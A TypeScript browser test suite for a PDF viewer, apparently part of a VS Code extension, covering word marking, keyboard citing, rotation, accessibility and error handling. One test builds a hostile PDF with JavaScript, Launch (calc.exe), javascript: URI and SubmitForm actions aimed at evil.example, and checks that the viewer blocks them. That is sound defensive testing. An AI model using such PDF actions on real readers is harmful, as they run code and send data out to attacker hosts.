/// <reference lib="dom" />
/** The viewer of PDFs in a real browser. */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import axe from 'axe-core';
import { breaches, hardToRead, looksOf } from '../rig/axe.ts';
import { openViewerBrowser, type ViewerBrowser } from '../rig/viewerPage.ts';
import { column, makePdf, type PdfPageContent } from '../support/pdf.ts';

const sentence = 'The Orfield gauge was built by Marta Quell in 1931.';
const filler = (n: number): PdfPageContent => ({
  texts: column(`Page ${n} has the weather of the coast, as on any other day.`, { x: 72, top: 700, chars: 40 }),
});
const book = makePdf(
  Array.from({ length: 2_000 }, (_, i) =>
    i === 1_499 ? { texts: column(`At last. ${sentence} Nobody knew.`, { x: 72, top: 300, chars: 30 }) } : filler(i + 1),
  ),
  { title: 'Weather', bookmarks: ['The coast', 'The gauge'] },
);

describe('the viewer of PDFs', () => {
  let browser: ViewerBrowser;
  before(async () => {
    browser = await openViewerBrowser();
  });
  after(() => browser?.close());

  test('of 2,000 pages, the one with the words is shown, they are marked over its lines, and can be cited by keyboard', async () => {
    const { page, posted } = await browser.open(book, { page: 1_500, words: sentence });
    await page.getByText('Marked on page 1500.').waitFor();
    await page.locator('.page[data-page-number="1500"] .mark').nth(1).waitFor();
    assert.equal(await page.getByRole('textbox', { name: 'Page' }).inputValue(), '1500');
    assert.ok((await page.locator('.page canvas').count()) < 20, 'only pages near it are drawn');
    const marks = await page.locator('.mark').evaluateAll((all) => all.map((mark) => mark.getBoundingClientRect().toJSON() as DOMRect));
    assert.ok(
      marks.every(({ top, bottom, width }) => top > 0 && bottom < innerHeightOf(page) && width > 10),
      'the marks are in view',
    );
    await page.getByRole('button', { name: 'Cite This' }).press('Enter');
    await page.waitForFunction(() => document.activeElement?.textContent === 'Cite This');
    assert.deepEqual(posted.at(-1), { kind: 'cite', text: sentence, page: 1_500, lastPage: 1_500, pages: 2_000 });
    await page.close();
  });

  test('words that a page lacks are not marked, a place near the page is found, and marked again when the file changes', async () => {
    const { page, change } = await browser.open(book, { page: 1_498, words: sentence });
    await page.locator('.mark').first().waitFor();
    await change(book);
    await page.locator('.mark').first().waitFor({ state: 'detached' });
    await page.locator('.mark').first().waitFor();
    await page.getByText('Marked on page 1500.').waitFor();
    await change(makePdf([filler(1)]));
    await page.getByText('Marked nothing: the file has changed, and the words are no longer where they were.').waitFor();
    await page.evaluate(() => postMessage({ kind: 'go', place: { page: 3, words: 'No page has such words.' } }));
    await page.getByText('Marked nothing: the words are not where the page’s text layer has them.').waitFor();
    assert.equal(await page.locator('.mark').count(), 0);
    await page.close();
  });

  test('marks lie over what is drawn, also on pages that are turned or cut', async () => {
    const upright = { x: 200, y: 400, text: sentence };
    const pdf = makePdf([
      { texts: [upright] },
      { texts: [{ ...upright, quarters: 1 }], rotation: 90 },
      { texts: [{ ...upright, x: 500, quarters: 2 }], rotation: 180 },
      { texts: [{ ...upright, y: 600, quarters: 3 }], rotation: 270 },
      { texts: [upright], rotation: 90, crop: [150, 300, 500, 500] },
      { texts: [upright], crop: [150, 300, 500, 500] },
    ]);
    const { page } = await browser.open(pdf);
    for (let n = 1; n <= 6; n++) {
      await page.evaluate((place) => postMessage({ kind: 'go', place }), { page: n, words: sentence });
      await page.getByText(`Marked on page ${n}.`).waitFor();
      const shown = page.locator(`.page[data-page-number="${n}"]`);
      await shown.locator('.mark').first().waitFor();
      const [marked, drawn] = await shown.evaluate(areasOf);
      for (const [side, at] of drawn.entries())
        assert.ok(Math.abs(at - marked[side]!) < 0.02, `page ${n}: ${marked.join(' ')}, not ${drawn.join(' ')}`);
    }
    await page.close();
  });

  test('keys, search, zoom and outline; what was arranged is back after a reload', async () => {
    const { page } = await browser.open(book, undefined, { page: 7, zoom: '2' });
    const pageBox = page.getByRole('textbox', { name: 'Page' });
    const isOn = (number: number): Promise<unknown> =>
      page.waitForFunction((wanted) => document.querySelector<HTMLInputElement>('.viewer-page')?.value === wanted, String(number));
    await isOn(7);
    assert.equal(await page.getByRole('combobox', { name: 'Zoom' }).inputValue(), '2');
    await page.locator('.viewer-container').focus();
    await page.keyboard.press('n');
    await isOn(8);
    await page.keyboard.press('-');
    await page.waitForFunction(() => document.querySelector('select')?.value === '1.82');
    await pageBox.fill('20');
    await pageBox.press('Enter');
    await isOn(20);
    await page.keyboard.press('Control+f');
    await page.getByRole('textbox', { name: 'Find' }).fill('at last');
    await page.getByText('1 of 1').waitFor();
    await isOn(1_500);
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Outline' }).click();
    await page.getByRole('button', { name: 'The gauge' }).click();
    await isOn(1);
    await page.close();
  });

  test('sentences are selected by key, over the end of a page, and cited', async () => {
    const { page, posted } = await browser.open(book, { page: 1_500 });
    await page.locator('.page[data-page-number="1500"] .textLayer span').first().waitFor();
    await page.locator('.viewer-container').focus();
    const selects = async (key: string, words: string): Promise<void> => {
      await page.keyboard.press(key);
      await page.getByRole('toolbar', { name: 'Selected words' }).waitFor();
      await page.waitForFunction((wanted) => getSelection()?.toString().replaceAll(/\s+/g, ' ').trim() === wanted, words);
      await page.getByText(`Selected: ${words}`).waitFor();
    };
    await selects('s', 'At last.');
    await selects('s', sentence);
    await page.keyboard.press('c');
    await selects('s', 'Nobody knew.');
    await selects('s', 'Page 1501 has the weather of the coast, as on any other day.');
    await selects('S', 'Nobody knew.');
    await selects('S', sentence);
    await selects('Shift+ArrowLeft', sentence.slice(0, -1));
    await page.keyboard.press('Alt+F1');
    await page.getByRole('dialog', { name: 'Help' }).getByText('select the next sentence').waitFor();
    const [cited] = posted;
    assert.deepEqual(cited?.kind === 'cite' && { ...cited, text: cited.text.replaceAll(/\s+/g, ' ') }, {
      ...{ kind: 'cite', text: sentence, page: 1_500, lastPage: 1_500, pages: 2_000 },
    });
    await page.close();
  });

  test('axe finds nothing wrong with it in any theme', async () => {
    const { page } = await browser.open(book, { page: 1_500, words: sentence }, { isOutlineOpen: true });
    await page.locator('.mark').first().waitFor();
    await page.locator('.textLayer span', { hasText: 'At last' }).first().click({ clickCount: 3 });
    await page.getByRole('toolbar', { name: 'Selected words' }).waitFor();
    await page.getByRole('button', { name: /Find/ }).click();
    await page.evaluate(axe.source);
    const problems = await breaches(page);
    for (const theme of ['dark', 'light', 'hc', 'hcl']) {
      await page.evaluate((name) => (document.documentElement.dataset['theme'] = name), theme);
      // The texts over the picture of a page are not seen.
      const looks = (await looksOf(page)).filter(({ name }) => !name.includes('textLayer'));
      problems.push(...(await hardToRead(page, looks)).flatMap(({ isKnown, problem }) => (isKnown ? [`${theme}: ${problem}`] : [])));
    }
    assert.deepEqual(problems, []);
    await page.close();
  });

  test('a hostile PDF can do nothing, and an image without text is said to be unread', async () => {
    const actions = [
      '/S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("https://evil.example/js"\\))',
      '/S /Launch /F (calc.exe)',
      '/S /URI /URI (javascript:alert\\(1\\))',
      '/S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit]',
      '/S /SubmitForm /F (https://evil.example/form)',
    ];
    const links = actions.map((action, i) => ({ rect: [50, 50 + 30 * i, 300, 75 + 30 * i] as const, action }));
    const hostile = makePdf([{ hasImage: true, links }], { opening: actions[0] ?? '' });
    const { page, posted, requested } = await browser.open(hostile);
    const said: string[] = [];
    page.on('dialog', (dialog) => void said.push(dialog.message()));
    await page.getByText('This page is an image without text').waitFor();
    const areas = page.locator('.annotationLayer section');
    await areas.nth(4).waitFor();
    // An address is a link that VS Code asks about when it is clicked. No other link leads anywhere.
    const protocols = await page
      .locator('.annotationLayer a[href]')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
    assert.deepEqual(protocols, ['https:']);
    for (const area of await areas.filter({ hasNot: page.locator('a[href]') }).all()) await area.click();
    assert.deepEqual(
      { said, posted, away: requested.filter((address) => !/^(blob:)?http:\/\/127\.0\.0\.1:/.test(address)) },
      { said: [], posted: [], away: [] },
    );
    await page.close();
  });

  test('a file that is no PDF says so', async () => {
    const { page, posted } = await browser.open(Buffer.from('Not a PDF.'));
    await page.getByRole('alert').getByText('This file cannot be shown as a PDF').waitFor();
    await page.getByRole('alert').getByRole('button', { name: 'Open in Default Viewer' }).click();
    assert.deepEqual(posted, [{ kind: 'open-default' }]);
    await page.close();
  });

  test('a broken file is shown as far as it can be read, one with a password asks for it, and one that is gone says so', async () => {
    const broken = Buffer.from(makePdf([filler(1), { texts: column(sentence, { x: 72, top: 700, chars: 30 }) }]));
    broken.write('xrof', broken.lastIndexOf('xref\n0'));
    const { page } = await browser.open(broken, { page: 2, words: sentence });
    await page.getByText('Marked on page 2.').waitFor();
    await page.evaluate(() => postMessage({ kind: 'gone' }));
    await page.getByText('This file was moved or deleted.').waitFor();
    assert.equal(await page.locator('.page').count(), 2, 'it is still there');
    await page.close();
    const { page: locked } = await browser.open(makePdf([filler(1)], { isEncrypted: true }));
    await locked.getByLabel('This document has a password').fill('guess');
    await locked.keyboard.press('Enter');
    await locked.getByText('That is not the password.').waitFor();
    await locked.close();
  });
});

/** Left, top, right and bottom of the marks and of what is drawn on a page, as shares of it. */
function areasOf(page: Element): readonly [marked: readonly number[], drawn: readonly number[]] {
  const around = page.getBoundingClientRect();
  const marks = [...page.querySelectorAll('.mark')].map((mark) => mark.getBoundingClientRect());
  const marked = [
    (Math.min(...marks.map(({ left }) => left)) - around.left) / around.width,
    (Math.min(...marks.map(({ top }) => top)) - around.top) / around.height,
    (Math.max(...marks.map(({ right }) => right)) - around.left) / around.width,
    (Math.max(...marks.map(({ bottom }) => bottom)) - around.top) / around.height,
  ];
  const canvas = page.querySelector('canvas');
  const { width = 0, height = 0 } = canvas ?? {};
  const { data } = canvas!.getContext('2d')!.getImageData(0, 0, width, height);
  const drawn = [1, 1, 0, 0];
  for (let i = 0; i < data.length; i += 4) {
    if (data[i]! > 128) continue;
    const [x, y] = [((i / 4) % width) / width, Math.floor(i / 4 / width) / height];
    for (const [side, at] of [x, y].entries()) {
      drawn[side] = Math.min(drawn[side]!, at);
      drawn[side + 2] = Math.max(drawn[side + 2]!, at);
    }
  }
  return [marked, drawn];
}

function innerHeightOf(page: { viewportSize(): { height: number } | null }): number {
  return page.viewportSize()?.height ?? 0;
}
